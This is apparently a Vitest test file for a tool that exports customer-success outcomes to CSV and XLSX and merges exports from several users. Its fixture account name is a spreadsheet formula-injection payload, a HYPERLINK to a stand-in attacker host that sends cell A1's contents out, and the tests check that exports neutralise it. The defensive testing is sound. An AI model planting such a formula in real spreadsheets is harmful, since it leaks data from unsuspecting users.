import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { Db } from '../../src/domain/db/open.ts';
import { CUT_MARKER } from '../../src/domain/export/cell-limit.ts';
import { exportOutcomes } from '../../src/domain/export/outcome-export.ts';
import { upliftNote } from '../../src/domain/export/xlsx.ts';
import type { OutcomeRow } from '../../src/shared/dto/interventions.ts';
import { importOutcomeFiles } from '../../src/domain/export/merge-import.ts';
import { evaluateOutcomes } from '../../src/domain/interventions/evaluate.ts';
import { logIntervention } from '../../src/domain/interventions/log.ts';
import { buildOutcomeReport } from '../../src/domain/interventions/report.ts';
import { rateIntervention } from '../../src/domain/interventions/status.ts';
import { notAfterToday } from '../../src/domain/interventions/not-after-now.ts';
import { tempDb } from '../support/temp.ts';
import { accountIdWhere, addAccount, addEvent, addMetric, insertRiskItem } from './interventions-fixtures.ts';

const GENERATED = new Date('2026-04-01T08:00:00Z');
const EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';

/** A small book: one succeeded intervention (with an evil account name), one failed, one control outcome. */
function book(prefix = 'acc_', owner = 'ann@example.com'): Db {
  const { db } = tempDb();
  const a = addAccount(db, {
    account_id: accountIdWhere(false, 'payment_failing', '2026-03-01', 0.1, `${prefix}a`),
    name: EVIL_NAME,
    arr: 12_345.5,
    currency: 'EUR',
    owner_email: owner,
  });
  const b = addAccount(db, {
    account_id: accountIdWhere(false, 'payment_failing', '2026-03-01', 0.1, `${prefix}b`),
    name: '+Plus GmbH',
    arr: 1000,
    owner_email: owner,
  });
  const c = addAccount(db, { account_id: `${prefix}control`, name: 'Held Out Ltd', arr: 500, owner_email: owner });
  const first = logIntervention(
    db,
    {
      accountId: a,
      triggerId: 'payment_failing',
      channel: 'email',
      templateId: 'pay-reminder',
      templateVersion: 3,
      notes: '@channel follow up',
      sentAt: '2026-03-02T09:00:00Z',
    },
    GENERATED,
  );
  rateIntervention(db, first.intervention_id, 2, GENERATED);
  logIntervention(
    db,
    { accountId: b, triggerId: 'payment_failing', channel: 'call', sentAt: '2026-03-03T09:00:00Z' },
    GENERATED,
  );
  // As `foresight log --force` past the fatigue cap records it.
  db.prepare('UPDATE interventions SET fatigue_override = 1 WHERE account_id = ?').run(b);
  insertRiskItem(db, c, 'payment_failing', '2026-03-01', true);
  addEvent(db, a, 'payment_succeeded', '2026-03-05');
  for (const id of [a, b, c]) addMetric(db, id, 'active_users', '2026-03-04', 2);
  evaluateOutcomes(db, { asOf: '2026-04-01', now: GENERATED });
  return db;
}

describe('CSV export', () => {
  it('writes one row per intervention and control outcome, neutralised, with the date range in the name', async () => {
    const db = book();
    const file = await exportOutcomes(db, { format: 'csv', asOf: '2026-04-01', generatedAt: GENERATED });
    expect(file.filename).toBe('foresight-outcomes_2026-03-01_to_2026-04-01.csv');
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(file.data);
    expect(text.startsWith('\uFEFFrecord_id,cohort,account_id,account_name')).toBe(true);
    const rows = Papa.parse<Record<string, string>>(text.slice(1), { header: true, skipEmptyLines: true }).data;
    expect(rows).toHaveLength(3);
    expect(rows.map((r) => [r.cohort, r.status])).toEqual([
      ['control', 'failed'],
      ['treated', 'succeeded'],
      ['treated', 'failed'],
    ]);
    // These touches have no firing (no risk item): fired_on stays empty rather than the sent day.
    expect(rows.map((r) => r.fired_on)).toEqual(['2026-03-01', '', '']);
    const evil = rows.find((r) => r.status === 'succeeded')!;
    expect(evil.account_name).toBe(`'${EVIL_NAME}`);
    expect(evil.notes).toBe("'@channel follow up");
    expect(evil).toMatchObject({
      arr: '12345.5',
      currency: 'EUR',
      start_on: '2026-03-02',
      outcome_on: '2026-03-05',
      days_to_success: '3',
      effort_rating: '2',
      template_id: 'pay-reminder',
      template_version: '3',
    });
    const ranged = await exportOutcomes(db, {
      format: 'csv',
      asOf: '2026-04-01',
      from: '2026-03-02',
      to: '2026-03-02',
      generatedAt: GENERATED,
    });
    expect(ranged.filename).toBe('foresight-outcomes_2026-03-02_to_2026-03-02.csv');
    expect(ranged.rows).toBe(1);
  });
});

describe('XLSX export', () => {
  it('names the uplift method the Summary rows use: Mantel–Haenszel for rows across plays', () => {
    const row = (uplift_method: OutcomeRow['uplift_method']) => ({ uplift_method }) as OutcomeRow;
    const note = (rows: OutcomeRow[], totals: OutcomeRow) => upliftNote({ rows, totals, min_group_size: 20 });
    expect(note([row('newcombe')], row('newcombe'))).toBe(
      'Success rate of every firing not held out (contacted or not) minus that of the held-out firings, both judged from the firing day (intention to treat), in percentage points, 95% Newcombe hybrid score interval; shown when both groups have at least 20 decided outcomes.',
    );
    // By trigger: each play's row is Newcombe, the total across plays is stratified.
    const mixed = note([row('newcombe'), row('newcombe')], row('mantel_haenszel'));
    expect(mixed).toMatch(
      /within one play and month the plain difference \(Newcombe .*across several compared within each \(Mantel–Haenszel/,
    );
    // By channel or owner: every row spans plays, and none is Newcombe.
    const stratified = note([row('mantel_haenszel')], row('mantel_haenszel'));
    expect(stratified).toMatch(/Mantel–Haenszel/);
    expect(stratified).not.toMatch(/Newcombe/);
  });

  it('round-trips through exceljs with typed cells and no formulas', async () => {
    const db = book();
    const file = await exportOutcomes(db, { format: 'xlsx', asOf: '2026-04-01', generatedAt: GENERATED });
    expect(file.filename).toBe('foresight-outcomes_2026-03-01_to_2026-04-01.xlsx');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(file.data as unknown as ArrayBuffer);
    expect(workbook.worksheets.map((s) => s.name)).toEqual(['Summary', 'Interventions']);

    const sheet = workbook.getWorksheet('Interventions')!;
    const headers = (sheet.getRow(1).values as unknown[]).slice(1);
    const col = (name: string) => headers.indexOf(name) + 1;
    expect(sheet.rowCount).toBe(4);
    const succeeded = [2, 3, 4]
      .map((r) => sheet.getRow(r))
      .find((row) => row.getCell(col('status')).value === 'succeeded')!;
    const start = succeeded.getCell(col('start_on'));
    expect(start.type).toBe(ExcelJS.ValueType.Date);
    expect(start.value).toEqual(new Date('2026-03-02T00:00:00.000Z'));
    expect(start.numFmt).toBe('yyyy-mm-dd');
    const arr = succeeded.getCell(col('arr'));
    expect(arr.type).toBe(ExcelJS.ValueType.Number);
    expect(arr.value).toBe(12_345.5);
    expect(arr.numFmt).toBe('"€"#,##0.00');
    const name = succeeded.getCell(col('account_name'));
    expect(name.type).toBe(ExcelJS.ValueType.String);
    expect(name.value).toBe(EVIL_NAME);
    expect(succeeded.getCell(col('days_to_success')).value).toBe(3);
    expect(succeeded.getCell(col('excluded_from_uplift')).value).toBe(false);

    for (const ws of workbook.worksheets)
      ws.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));

    const summary = workbook.getWorksheet('Summary')!;
    expect(summary.getCell('B2').value).toEqual(new Date('2026-04-01T00:00:00.000Z'));
    const header = (summary.getRow(6).values as unknown[]).slice(1);
    expect(header.slice(0, 3)).toEqual(['Trigger', 'Interventions', 'Succeeded']);
    const first = summary.getRow(7);
    expect(first.getCell(1).value).toBe('Payment failing');
    expect(first.getCell(2).value).toBe(2);
    expect(first.getCell(7).value).toBe(0.5);
    expect(first.getCell(7).numFmt).toBe('0.0%');
    // Uplift is in percentage points, never a percent (which would read as a relative change).
    expect(header[13]).toBe('Uplift (points)');
    for (const col of [14, 15, 16]) expect(first.getCell(col).numFmt).toBe('+0.0" pts";"−"0.0" pts";0.0" pts"');
    // The summary's ARR is the USD equivalent; the Interventions sheet keeps each row's own currency.
    expect(first.getCell(9).value).toBeCloseTo(12_345.5 * 1.087, 6);
    expect(first.getCell(9).numFmt).toBe('"$"#,##0.00');
    expect(first.getCell(18).value).toMatch(/No eligible firings/);
  });
});

describe('cells longer than a spreadsheet holds', () => {
  it('are cut before Excel’s 32,767 characters with a marker, in the XLSX and the CSV', async () => {
    const db = book();
    // Written before the cap on notes existed (or by another tool): the export must still open.
    db.prepare("UPDATE interventions SET notes = ? WHERE channel = 'email'").run(`=${'n'.repeat(99_999)}`);
    const xlsx = await exportOutcomes(db, { format: 'xlsx', asOf: '2026-04-01', generatedAt: GENERATED });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.data as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('Interventions')!;
    const notesColumn = sheet.getRow(1).values as unknown[];
    const col = notesColumn.indexOf('notes');
    const cells = [2, 3, 4].map((r) => sheet.getRow(r).getCell(col).value).filter((v) => typeof v === 'string');
    const cut = cells.find((v) => (v as string).length > 1000) as string;
    expect(cut.length).toBeLessThanOrEqual(32_767);
    expect(cut.endsWith(CUT_MARKER)).toBe(true);
    const csv = await exportOutcomes(db, { format: 'csv', asOf: '2026-04-01', generatedAt: GENERATED });
    const rows = Papa.parse<Record<string, string>>(new TextDecoder().decode(csv.data).replace(/^\uFEFF/, ''), {
      header: true,
      skipEmptyLines: true,
    }).data;
    const csvCut = rows.map((r) => r.notes ?? '').find((n) => n.length > 1000)!;
    expect(csvCut.length).toBeLessThanOrEqual(32_767);
    expect(csvCut.startsWith("'=nnn")).toBe(true);
    expect(csvCut.endsWith(CUT_MARKER)).toBe(true);
  });
});

describe('ARR in the report', () => {
  it('converts every account’s ARR to USD as the Accounts grid does, in the report and the XLSX summary', async () => {
    const db = book();
    const report = buildOutcomeReport(db, { asOf: '2026-04-01', by: 'trigger' });
    // The only success is the EUR account (12,345.50 EUR at the default 1.087 USD per EUR).
    expect(report.totals.currency).toBe('USD');
    expect(report.totals.arr_retained).toBeCloseTo(12_345.5 * 1.087, 6);
    expect(report.arr_by_month.map((m) => m.arr)).toEqual([report.totals.arr_retained]);
    const xlsx = await exportOutcomes(db, { format: 'xlsx', asOf: '2026-04-01', generatedAt: GENERATED });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.data as unknown as ArrayBuffer);
    const summary = workbook.getWorksheet('Summary')!;
    expect(summary.getRow(6).getCell(9).value).toBe('ARR retained (USD equivalent)');
    expect(summary.getRow(7).getCell(9).value).toBeCloseTo(12_345.5 * 1.087, 6);
  });
});

describe('team-lead merge import', () => {
  it('merges other CSMs’ CSV and XLSX exports, de-duplicated by id; a second import changes nothing', async () => {
    const ann = book('ann_', 'ann@example.com');
    const bob = book('bob_', 'bob@example.com');
    const annCsv = await exportOutcomes(ann, { format: 'csv', asOf: '2026-04-01', generatedAt: GENERATED });
    const bobXlsx = await exportOutcomes(bob, { format: 'xlsx', asOf: '2026-04-01', generatedAt: GENERATED });
    const { db: lead } = tempDb();

    const files = [
      { name: '/tmp/ann.csv', data: annCsv.data },
      { name: '/tmp/bob.xlsx', data: bobXlsx.data },
    ];
    const first = await importOutcomeFiles(lead, files, GENERATED);
    expect(first).toMatchObject({ added: 6, updated: 0, unchanged: 0, rejected: 0 });
    expect(first.files.map((f) => [f.file, f.rows, f.added])).toEqual([
      ['ann.csv', 3, 3],
      ['bob.xlsx', 3, 3],
    ]);
    const snapshot = lead.prepare('SELECT * FROM imported_outcomes ORDER BY record_id').all();
    const again = await importOutcomeFiles(
      lead,
      [...files, { name: 'ann-copy.csv', data: annCsv.data }],
      new Date('2026-04-02T00:00:00Z'),
    );
    expect(again).toMatchObject({ added: 0, updated: 0, unchanged: 9, rejected: 0 });
    expect(lead.prepare('SELECT * FROM imported_outcomes ORDER BY record_id').all()).toEqual(snapshot);

    const merged = lead
      .prepare<[], { account_name: string; notes: string | null }>(
        "SELECT account_name, notes FROM imported_outcomes WHERE status = 'succeeded' ORDER BY account_id",
      )
      .all();
    expect(merged.map((m) => m.account_name)).toEqual([EVIL_NAME, EVIL_NAME]);
    expect(merged[0]!.notes).toBe('@channel follow up');
    // The override of the fatigue cap travels with the row (unknown for control rows).
    expect(
      lead
        .prepare('SELECT cohort, channel, fatigue_override FROM imported_outcomes ORDER BY record_id')
        .all()
        .map((r) => JSON.stringify(r))
        .sort(),
    ).toEqual(
      [
        ...Array(2).fill({ cohort: 'control', channel: null, fatigue_override: null }),
        ...Array(2).fill({ cohort: 'treated', channel: 'call', fatigue_override: 1 }),
        ...Array(2).fill({ cohort: 'treated', channel: 'email', fatigue_override: 0 }),
      ]
        .map((r) => JSON.stringify(r))
        .sort(),
    );

    const report = buildOutcomeReport(lead, { asOf: '2026-04-01', by: 'owner' });
    expect(report.imported_rows).toBe(6);
    expect(report.rows.map((r) => [r.key, r.n, r.succeeded])).toEqual([
      ['ann@example.com', 2, 1],
      ['bob@example.com', 2, 1],
    ]);
    expect(report.rows[0]!.control.n).toBe(1);
  });

  it('keeps the newer verdict when an older export of the same rows is merged after it', async () => {
    const ann = book();
    const exportAsOf = async (asOf: string) =>
      (await exportOutcomes(ann, { format: 'csv', asOf, generatedAt: GENERATED })).data;
    const newer = await exportAsOf('2026-04-01');
    const older = await exportAsOf('2026-03-04');
    // The same older file as written before the as_of column existed.
    const text = new TextDecoder().decode(older);
    const legacy = new TextEncoder().encode(text.replace(/,as_of\r\n/, '\r\n').replace(/,2026-03-04\r\n/g, '\r\n'));
    const statuses = (db: Db) =>
      db.prepare('SELECT record_id, status, as_of FROM imported_outcomes ORDER BY record_id').all();

    const { db: lead } = tempDb();
    await importOutcomeFiles(lead, [{ name: 'new.csv', data: newer }], GENERATED);
    const decided = statuses(lead);
    expect(decided).toContainEqual(expect.objectContaining({ status: 'succeeded', as_of: '2026-04-01' }));
    const result = await importOutcomeFiles(
      lead,
      [
        { name: 'old.csv', data: older },
        { name: 'legacy.csv', data: legacy },
      ],
      GENERATED,
    );
    expect(result.updated).toBe(0);
    expect(result.older).toBeGreaterThan(0);
    expect(result.files.map((f) => f.older)).toEqual([result.older / 2, result.older / 2]);
    expect(statuses(lead)).toEqual(decided);

    // In the other order the newer file updates the older rows.
    const { db: other } = tempDb();
    await importOutcomeFiles(other, [{ name: 'old.csv', data: older }], GENERATED);
    const forward = await importOutcomeFiles(other, [{ name: 'new.csv', data: newer }], GENERATED);
    expect(forward).toMatchObject({ updated: result.older / 2, older: 0 });
    expect(statuses(other)).toEqual(decided);
  });

  it('does not import rows that are this book’s own, and rejects broken rows with a reason', async () => {
    const ann = book();
    const own = await exportOutcomes(ann, { format: 'csv', asOf: '2026-04-01', generatedAt: GENERATED });
    expect(await importOutcomeFiles(ann, [{ name: 'own.csv', data: own.data }], GENERATED)).toMatchObject({
      added: 0,
      unchanged: 3,
    });

    const { db: lead } = tempDb();
    const broken =
      '\uFEFFrecord_id,cohort,account_id,trigger_id,status,start_on,effort_rating\r\nx1,treated,a,usage_drop,succeeded,2026-02-31,\r\nx2,test,a,usage_drop,failed,2026-02-01,\r\nx3,treated,a,usage_drop,failed,2026-02-01,9\r\nx4,treated,a,usage_drop,failed,2026-02-01,3\r\n';
    const result = await importOutcomeFiles(
      lead,
      [{ name: 'broken.csv', data: new TextEncoder().encode(broken) }],
      GENERATED,
    );
    expect(result).toMatchObject({ added: 1, rejected: 3 });
    expect(result.files[0]!.rejected).toEqual([
      { line: 2, reason: 'start_on "2026-02-31" is not a date (YYYY-MM-DD)' },
      { line: 3, reason: 'cohort must be treated, control or eligible, not "test"' },
      { line: 4, reason: 'effort_rating 9 is not from 1 to 7' },
    ]);
    await expect(
      importOutcomeFiles(
        lead,
        [{ name: 'accounts.csv', data: new TextEncoder().encode('account_id,name\r\na,b\r\n') }],
        GENERATED,
      ),
    ).rejects.toThrow(/accounts.csv is not a Foresight outcome export/);
  });
});

describe('a day that has not happened', () => {
  it('is refused as the as-of day of a report or export', () => {
    expect(notAfterToday('2026-04-01', GENERATED)).toBe('2026-04-01');
    expect(() => notAfterToday('2026-04-02', GENERATED)).toThrow(
      'The as-of day 2026-04-02 is after today (2026-04-01, UTC); outcomes can only be judged on days that have passed.',
    );
  });

  it('is refused in a merged file, so a fabricated verdict cannot override genuine ones', async () => {
    const { db: lead } = tempDb();
    const file =
      '\uFEFFrecord_id,cohort,account_id,trigger_id,status,start_on,as_of\r\nx1,treated,a,usage_drop,succeeded,2026-03-01,2027-06-01\r\nx2,treated,a,usage_drop,failed,2026-03-01,2026-04-01\r\n';
    const result = await importOutcomeFiles(
      lead,
      [{ name: 'future.csv', data: new TextEncoder().encode(file) }],
      GENERATED,
    );
    expect(result).toMatchObject({ added: 1, rejected: 1 });
    expect(result.files[0]!.rejected).toEqual([
      { line: 2, reason: 'as_of 2027-06-01 is after today (2026-04-01, UTC)' },
    ]);
  });
});
